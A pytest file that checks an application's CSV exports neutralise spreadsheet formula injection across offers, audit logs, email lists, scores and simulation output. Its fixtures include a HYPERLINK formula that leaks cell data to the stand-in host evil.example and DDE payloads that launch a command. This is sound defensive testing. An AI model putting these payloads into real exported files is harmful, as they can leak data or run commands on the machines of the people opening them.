"""Every CSV Easel writes neutralises cells a spreadsheet would run as a formula."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
from sqlmodel import Session
from typer.testing import CliRunner

from cli import context
from cli.main import app
from core import audit, audit_views, proposal_store, simulation
from core.channels import CsvExportChannel, Message
from core.csv_safety import neutralise, safe_frame, safe_row
from core.scores import CustomerScore
from tests import console_factories as make

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Ann Smith", "Ann Smith"),
        ("a=b", "a=b"),
        ("", ""),
        ("-12.5", "-12.5"),
        ("+44", "+44"),
        (-3, -3),
        (None, None),
    ],
)
def test_neutralise(value, safe):
    assert neutralise(value) == safe


def test_a_frame_keeps_its_numbers_and_neutralises_its_text():
    frame = pd.DataFrame({"name": [HOSTILE, "Ann"], "amount": [-5.0, 2.0], "@note": ["-x", None]})
    safe = safe_frame(frame)
    assert safe["name"].tolist() == ["'" + HOSTILE, "Ann"]
    assert safe["amount"].tolist() == [-5.0, 2.0]
    assert list(safe.columns) == ["name", "amount", "'@note"]
    assert frame["name"].iloc[0] == HOSTILE  # the input is not changed
    assert safe_row(["=1", 2]) == ["'=1", 2]


def test_offer_export(engine, tmp_path):
    make.customers(engine, HOSTILE)
    make.campaign(engine, 1)
    make.offers(engine, 1, [(HOSTILE, False, None, None, "pat", "@SUM(A1:A9)")])
    path = tmp_path / "offers.csv"
    with engine.connect() as conn:
        assert proposal_store.export_offers(conn, path) == 1
    header, row = _rows(path.read_text())
    assert row[header.index("customer_id")] == "'" + HOSTILE
    assert row[header.index("reason")] == "'@SUM(A1:A9)"


def test_audit_export_and_its_download(session, now, planner):
    audit.record(
        session,
        actor=planner,
        action="campaign.approve",
        entity_type="campaign",
        entity_id="+1",
        reason=HOSTILE,
        now=now,
    )
    session.commit()
    text = "".join(audit_views.export_csv(session, filters=audit_views.AuditFilter()))
    header, row = _rows(text)
    assert row[header.index("reason")] == "'" + HOSTILE
    assert row[header.index("entity_id")] == "+1"  # a plain number stays a number


def test_list_import_file_of_the_csv_channel(tmp_path, now):
    message = Message(
        key="offer:1",
        email="-ann@example.com",
        first_name=HOSTILE,
        subject="=1+1",
        body="hello",
        fields={"sku": "\tP1", "discount_pct": 10},
    )
    CsvExportChannel(tmp_path, stamp=now).send([message])
    [path] = tmp_path.glob("*.csv")
    header, row = _rows(path.read_text())
    cells = dict(zip(header, row, strict=True))
    assert cells["First Name"] == "'" + HOSTILE
    assert cells["Email Address"] == "'-ann@example.com"
    assert cells["Subject"] == "'=1+1" and cells["SKU"] == "'\tP1"
    assert cells["DISCOUNT_PCT"] == "10"


def test_score_export(engine, now, tmp_path, monkeypatch):
    make.customers(engine, HOSTILE)
    with Session(engine) as session:
        session.add(
            CustomerScore(
                as_of=date(2026, 6, 1),
                customer_id=HOSTILE,
                churn_probability=0.7,
                risk_band="high",
                expected_value=-3.5,
                value_at_risk=10.0,
                reasons='["=1+1"]',
                scored_at=now,
            )
        )
        session.commit()
    monkeypatch.setattr(context, "engine", lambda: engine)
    path = tmp_path / "scores.csv"
    result = CliRunner().invoke(app, ["export", "scores", str(path)])
    assert result.exit_code == 0, result.output
    header, row = _rows(path.read_text())
    cells = dict(zip(header, row, strict=True))
    assert cells["customer_id"] == "'" + HOSTILE and cells["reasons"] == "'=1+1"
    assert cells["expected_value"] == "-3.5"


def test_simulation_weekly_figures(tmp_path, monkeypatch):
    run = SimpleNamespace(engine=SimpleNamespace(dispose=lambda: None))
    monkeypatch.setattr(simulation, "simulate", lambda *args, **kwargs: {"none": run})
    monkeypatch.setattr(simulation, "table", lambda runs: pd.DataFrame())
    weekly = pd.DataFrame({"policy": ["=none"], "week": [1], "net_revenue": [-2.0]})
    monkeypatch.setattr(simulation, "weekly", lambda runs: weekly)
    out = tmp_path / "weekly.csv"
    result = CliRunner().invoke(app, ["simulate", "--weeks", "1", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert _rows(out.read_text()) == [["policy", "week", "net_revenue"], ["'=none", "1", "-2.0"]]


def _writes_csv(tree: ast.AST) -> bool:
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and node.attr in {"to_csv", "writer", "DictWriter"}:
            return True
        if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "download_button":
            return True
    return False


def test_every_module_that_writes_csv_uses_the_guard():
    """A new CSV writer (to_csv, csv.writer, a download button) must go through core.csv_safety;
    the audit page's download is audit_views.export_csv, tested above."""
    unguarded = []
    for folder in ("core", "cli", "pages", "ui", "jobs"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            source = path.read_text()
            if path.name == "csv_safety.py" or not _writes_csv(ast.parse(source)):
                continue
            if "csv_safety" not in source and "audit_views.export_csv" not in source:
                unguarded.append(str(path.relative_to(ROOT)))
    assert unguarded == []
